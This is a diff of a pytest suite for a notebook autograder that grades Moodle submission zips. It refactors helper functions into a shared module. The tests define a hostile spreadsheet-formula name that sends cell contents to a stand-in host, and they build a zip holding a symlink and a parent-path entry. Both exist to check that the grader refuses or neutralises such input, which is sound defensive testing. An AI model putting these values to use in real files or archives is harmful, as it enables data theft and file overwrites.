@@ -5,7 +5,6 @@ One class is graded once for the module (a German Moodle's download as a zip); t
 into it files that need no kernel (truncated or empty notebooks), or unchanged files."""
 
 import csv
-import io
 import os
 import stat
 import subprocess
@@ -18,8 +17,9 @@ import pytest
 from nbgrader.api import Gradebook
 
 import moodle_rules
-from autograder import cli, demo, export
-from autograder.grading import REPO_SOURCE, Course, Result
+from week_files import grade, read_rows, solved, unchanged
+from autograder import cli, export
+from autograder.grading import Course, Result
 
 A = "step_sizes"
 SEED = 2222
@@ -31,18 +31,6 @@ DE_COLUMNS = ["ID", "Vollständiger Name", "E-Mail-Adresse", "Status", "Bewertun
 EN_COLUMNS = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
               "Grade can be changed", "Last modified (submission)", "Last modified (grade)", "Feedback comments"]
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-
-
-def _solved(course) -> str:
-    return demo.fill_in(course.release_path(A, A), demo.reference_answers(course.root / "source" / A / f"{A}.ipynb"))
-
-
-def _unchanged(course) -> str:
-    return course.release_path(A, A).read_text()
-
-
-def _rows(path):
-    return {r["student"]: r for r in csv.DictReader(open(path, encoding="utf-8"))}
 
 
 def _zip(path, entries):
@@ -61,11 +49,6 @@ def _worksheet(path, columns, rows):
     return path
 
 
-def _grade(course, *args, csv_path, capsys):
-    code = cli.main(["grade", A, "--course", str(course.root), "--csv", str(csv_path), "--workers", "2", *args])
-    return code, capsys.readouterr()
-
-
 @pytest.fixture(scope="module")
 def week(tmp_path_factory):
     """A German Moodle class: a zip with a final and a draft notebook (the final one newer by the zip's
@@ -74,11 +57,11 @@ def week(tmp_path_factory):
     course = Course.from_sources(tmp / "course")
     course.build([A])
     download = _zip(tmp / "moodle.zip", [
-        ("Jürgen Müller_100001_assignsubmission_file_/step_sizes_final.ipynb", _solved(course), (2026, 12, 1, 9, 0, 0)),
-        ("Jürgen Müller_100001_assignsubmission_file_/step_sizes_draft.ipynb", _unchanged(course), (2026, 11, 28, 9, 0, 0)),
-        (f"Ada Lovelace_100002_assignsubmission_file_{A}.ipynb", _unchanged(course), (2026, 11, 30, 9, 0, 0)),
-        ("Teilnehmerin_100003_assignsubmission_file_/a.ipynb", _solved(course), (2026, 11, 30, 9, 0, 0)),
-        ("Teilnehmerin_100003_assignsubmission_file_/b.ipynb", _unchanged(course), (2026, 11, 30, 9, 0, 0)),
+        ("Jürgen Müller_100001_assignsubmission_file_/step_sizes_final.ipynb", solved(course), (2026, 12, 1, 9, 0, 0)),
+        ("Jürgen Müller_100001_assignsubmission_file_/step_sizes_draft.ipynb", unchanged(course), (2026, 11, 28, 9, 0, 0)),
+        (f"Ada Lovelace_100002_assignsubmission_file_{A}.ipynb", unchanged(course), (2026, 11, 30, 9, 0, 0)),
+        ("Teilnehmerin_100003_assignsubmission_file_/a.ipynb", solved(course), (2026, 11, 30, 9, 0, 0)),
+        ("Teilnehmerin_100003_assignsubmission_file_/b.ipynb", unchanged(course), (2026, 11, 30, 9, 0, 0)),
     ])
     sheet = _worksheet(tmp / "Bewertungen.csv", DE_COLUMNS, [
         ["Teilnehmer/in100001", "Jürgen Müller", "j@example.org", "Abgegeben", "", "100,00", "Ja", "-", "-", ""],
@@ -101,18 +84,18 @@ def test_the_zip_times_choose_the_final_notebook_and_equal_times_none(tmp_path, 
     course.build([A])
     download = _zip(tmp_path / "d.zip", [
         # the draft has the later name order and the earlier time: only the zip's time tells them apart
-        ("Ana_200001_assignsubmission_file_/step_sizes_zdraft.ipynb", _unchanged(course)[:300], (2026, 11, 28, 9, 0, 0)),
+        ("Ana_200001_assignsubmission_file_/step_sizes_zdraft.ipynb", unchanged(course)[:300], (2026, 11, 28, 9, 0, 0)),
         ("Ana_200001_assignsubmission_file_/step_sizes_final.ipynb", "", (2026, 12, 1, 9, 0, 0)),
         ("Teilnehmerin_200003_assignsubmission_file_/a.ipynb", "", (2026, 11, 30, 9, 0, 0)),
         ("Teilnehmerin_200003_assignsubmission_file_/b.ipynb", "", (2026, 11, 30, 9, 0, 0)),
         ("Bo_200004_assignsubmission_file_/x.ipynb", "", (1980, 1, 1, 0, 0, 0)),   # times unknown
         ("Bo_200004_assignsubmission_file_/y.ipynb", "", (2026, 11, 30, 9, 0, 0)),
     ])
-    code, out = _grade(course, "--submissions", str(download), csv_path=tmp_path / "g.csv", capsys=capsys)
+    code, out = grade(course, "--submissions", str(download), csv_path=tmp_path / "g.csv", capsys=capsys)
     assert code == 0, out.err
     submitted = course.submission_dir("200001", A) / f"{A}.ipynb"
     assert submitted.read_text() == "", "the draft (older by the zip's times) was graded"
-    rows = _rows(tmp_path / "g.csv")
+    rows = read_rows(tmp_path / "g.csv")
     for student, names in (("200003", ("a.ipynb", "b.ipynb")), ("200004", ("x.ipynb", "y.ipynb"))):
         assert rows[student]["status"].startswith("could not be graded: 2 notebooks, choose one"), rows[student]
         assert all(n in rows[student]["status"] for n in names)
@@ -125,7 +108,7 @@ def test_the_zip_times_choose_the_final_notebook_and_equal_times_none(tmp_path, 
 
 def test_a_german_moodle_download_is_graded_from_the_final_file_and_the_flat_layout(week):
     assert week["code"] == 0
-    rows = _rows(week["grades"])
+    rows = read_rows(week["grades"])
     assert rows["100001"]["status"] == "graded" and rows["100001"]["auto_score"] == "10"
     assert "step_sizes_final.ipynb" in rows["100001"]["notes"] and "not graded: step_sizes_draft.ipynb" in rows["100001"]["notes"]
     assert rows["100002"]["status"] == "graded" and rows["100002"]["auto_score"] == "0"   # the flat layout
@@ -232,7 +215,7 @@ def test_a_zip_without_a_notebook_changes_nothing(week, capsys):
     submitted = {s: sorted(p.read_bytes() for p in course.submission_dir(s, A).glob("*")) for s in course.students(A)}
     pdfs = _zip(tmp / "pdfs.zip", [(f"{name}_{i}_assignsubmission_file_/{A}.pdf", "%PDF-1.4", (2026, 12, 2, 9, 0, 0))
                                    for i, name in ((100001, "Jürgen Müller"), (100002, "Ada Lovelace"), (100005, "Cy"))])
-    code, out = _grade(course, "--submissions", str(pdfs), csv_path=grades, capsys=capsys)
+    code, out = grade(course, "--submissions", str(pdfs), csv_path=grades, capsys=capsys)
     assert code == 1 and f"no {A} notebook in 3 submissions (found {A}.pdf" in out.err, out.err
     assert grades.read_bytes() == before
     assert {s: sorted(p.read_bytes() for p in course.submission_dir(s, A).glob("*")) for s in course.students(A)} == submitted
@@ -243,9 +226,9 @@ def test_an_ungradable_resubmission_keeps_the_graded_one_unless_asked(week, caps
     folder = tmp / "late"
     (folder / "Ada Lovelace_100002_assignsubmission_file_").mkdir(parents=True)
     (folder / "Ada Lovelace_100002_assignsubmission_file_" / f"{A}.ipynb").write_text("")   # empty: cannot be graded
-    code, out = _grade(course, "--submissions", str(folder), csv_path=grades, capsys=capsys)
+    code, out = grade(course, "--submissions", str(folder), csv_path=grades, capsys=capsys)
     assert code == 0, out.err
-    assert _rows(grades)["100002"]["status"] == "graded"
+    assert read_rows(grades)["100002"]["status"] == "graded"
     assert "100002: kept the graded submission" in out.out and "--student 100002" in out.out
     assert (course.submission_dir("100002", A) / f"{A}.ipynb").read_text() != ""
 
@@ -254,7 +237,7 @@ def test_an_ungradable_resubmission_keeps_the_graded_one_unless_asked(week, caps
 
 def test_a_rerun_that_grades_nothing_says_so(week, capsys):
     course, grades = week["course"], week["grades"]
-    code, out = _grade(course, csv_path=grades, capsys=capsys)
+    code, out = grade(course, csv_path=grades, capsys=capsys)
     assert code == 0
     assert f"nothing new: {len(course.students(A))} unchanged (use --regrade" in out.out
     assert "auto score" not in out.out and "graded (" not in out.out
@@ -299,7 +282,7 @@ def test_missing_roster_and_zip_files_are_one_line(week, capsys):
     course, tmp = week["course"], week["tmp"]
     for option, path, words in (("--roster", tmp / "nosuch.csv", "no such file"),
                                 ("--submissions", tmp / "nosuch.zip", "no such file")):
-        code, out = _grade(course, option, str(path), csv_path=tmp / "x.csv", capsys=capsys)
+        code, out = grade(course, option, str(path), csv_path=tmp / "x.csv", capsys=capsys)
         assert code == 2 and words in out.err and "Errno" not in out.err and len(out.err.strip().splitlines()) == 1, out.err
 
 
@@ -319,7 +302,7 @@ def test_no_csv_holds_a_formula_and_look_alike_ids_are_named(week, capsys):
     for student in ids:
         (folder / f"{student}.ipynb").write_text("{")   # no kernel needed: not valid JSON
     grades = tmp / "hostile.csv"
-    code, out = _grade(course, "--submissions", str(folder), csv_path=grades, capsys=capsys)
+    code, out = grade(course, "--submissions", str(folder), csv_path=grades, capsys=capsys)
     assert code == 0, out.err
     assert "'Bob', 'bob'" in out.out and "look alike" in out.out
     assert ascii("josé") in out.out and ascii(unicodedata.normalize("NFD", "josé")) in out.out
@@ -344,17 +327,17 @@ def test_no_csv_holds_a_formula_and_look_alike_ids_are_named(week, capsys):
 def test_symlinks_and_parent_paths_in_a_zip_are_refused(week, capsys):
     course, tmp = week["course"], week["tmp"]
     secret = tmp / "secret.ipynb"
-    secret.write_text(_unchanged(course))
+    secret.write_text(unchanged(course))
     download = tmp / "links.zip"
     with zipfile.ZipFile(download, "w") as zf:
         link = zipfile.ZipInfo("Eve_100007_assignsubmission_file_/step_sizes.ipynb", (2026, 12, 1, 9, 0, 0))
         link.external_attr = (stat.S_IFLNK | 0o777) << 16
         zf.writestr(link, str(secret))
         zf.writestr(zipfile.ZipInfo("../Mallory_100008_assignsubmission_file_/step_sizes.ipynb", (2026, 12, 1, 9, 0, 0)),
-                    _unchanged(course))
+                    unchanged(course))
         zf.writestr(zipfile.ZipInfo(f"Ada Lovelace_100002_assignsubmission_file_{A}.ipynb", (2026, 11, 30, 9, 0, 0)),
                     (course.submission_dir("100002", A) / f"{A}.ipynb").read_text())
-    code, out = _grade(course, "--submissions", str(download), csv_path=tmp / "l.csv", capsys=capsys)
+    code, out = grade(course, "--submissions", str(download), csv_path=tmp / "l.csv", capsys=capsys)
     assert code == 0, out.err
     assert "is a symbolic link" in out.err and "points outside the download" in out.err
     assert not {"100007", "100008"} & set(course.students(A))
